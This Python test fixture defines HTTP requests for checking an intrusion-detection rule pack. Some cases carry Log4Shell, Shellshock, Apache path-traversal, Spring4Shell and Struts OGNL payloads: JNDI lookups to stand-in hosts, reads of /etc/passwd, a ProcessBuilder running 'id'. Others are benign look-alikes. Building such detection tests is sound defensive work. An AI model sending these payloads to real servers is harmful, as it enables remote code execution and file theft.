"""Exploit-shaped and benign look-alike HTTP requests for Shieldwall's rule pack.

Each case names the SIDs that must fire (empty for benign look-alikes, which
must fire none of the pack's rules). Written from the public descriptions of
each exploit; the benign cases are deliberately close to the exploit text.
"""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Case:
    """One request and the pack SIDs it must trigger."""

    name: str
    method: str
    target: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    sids: frozenset[int] = frozenset()

    @property
    def exploit(self) -> bool:
        """Does the case carry an exploit?"""
        return bool(self.sids)


CASES: tuple[Case, ...] = (
    # Log4Shell
    Case("log4shell-ua", "GET", "/", {"User-Agent": "${jndi:ldap://203.0.113.9:1389/a}"}, sids=frozenset({1995001})),
    Case(
        "log4shell-lower", "GET", "/", {"X-Api-Version": "${${lower:j}ndi:ldap://x.test/a}"}, sids=frozenset({1995002})
    ),
    Case(
        "log4shell-colon-dash",
        "GET",
        "/",
        {"Referer": "${${::-j}${::-n}${::-d}${::-i}:rmi://x.test/a}"},
        sids=frozenset({1995002}),
    ),
    Case("log4shell-uri", "GET", "/search?q=%24%7Bjndi%3Adns%3A%2F%2Fx.test%2Fa%7D", sids=frozenset({1995003})),
    Case(
        "log4shell-body",
        "POST",
        "/login",
        {"Content-Type": "application/x-www-form-urlencoded"},
        b"user=${jndi:ldap://x.test/a}&pass=x",
        sids=frozenset({1995004}),
    ),
    Case("log4shell-cookie", "GET", "/", {"Cookie": "session=${jndi:ldap://x.test/a}"}, sids=frozenset({1995005})),
    Case("log4shell-benign-template", "GET", "/", {"X-Template": "${user.name} and ${HOME}"}),
    Case(
        "log4shell-benign-text",
        "POST",
        "/wiki",
        {"Content-Type": "text/plain"},
        b"JNDI lookups like jndi:ldap are disabled; see ${docs}",
    ),
    # Shellshock
    Case(
        "shellshock-ua",
        "GET",
        "/cgi-bin/status",
        {"User-Agent": "() { :; }; /bin/cat /etc/passwd"},
        sids=frozenset({1995010}),
    ),
    Case(
        "shellshock-cookie", "GET", "/cgi-bin/x", {"Cookie": "a=() { :;}; echo vulnerable"}, sids=frozenset({1995012})
    ),
    Case("shellshock-benign", "GET", "/cgi-bin/status", {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) f() {}"}),
    # Apache 2.4.49/50 path traversal
    Case("apache-dot-2e", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", sids=frozenset({1995020})),
    Case("apache-double-encoded", "GET", "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd", sids=frozenset({1995020})),
    Case("apache-2e-2e", "GET", "/cgi-bin/%2e%2e/%2e%2e/bin/sh", sids=frozenset({1995020})),
    Case("apache-benign-dotted-name", "GET", "/download/release%2e.tar.gz"),
    Case("apache-benign-version", "GET", "/docs/v2.4.49/.well-known/security.txt"),
    # Spring4Shell
    Case(
        "spring4shell-body",
        "POST",
        "/app/greeting",
        {"Content-Type": "application/x-www-form-urlencoded"},
        b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
        sids=frozenset({1995031}),
    ),
    Case(
        "spring4shell-uri",
        "GET",
        "/app/greeting?class.module.classLoader.URLs%5B0%5D=0",
        sids=frozenset({1995030}),
    ),
    Case(
        "spring4shell-benign",
        "POST",
        "/app/form",
        {"Content-Type": "application/x-www-form-urlencoded"},
        b"class=math&module=algebra&loader=classLoader",
    ),
    # Struts OGNL in Content-Type
    Case(
        "struts-ognl",
        "POST",
        "/struts2-showcase/index.action",
        {
            "Content-Type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
            "(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}"
        },
        b"x",
        sids=frozenset({1995040}),
    ),
    Case(
        "struts-benign",
        "POST",
        "/upload.action",
        {"Content-Type": "multipart/form-data; boundary=----%{form}"},
        b"------%{form}--\r\n",
    ),
)
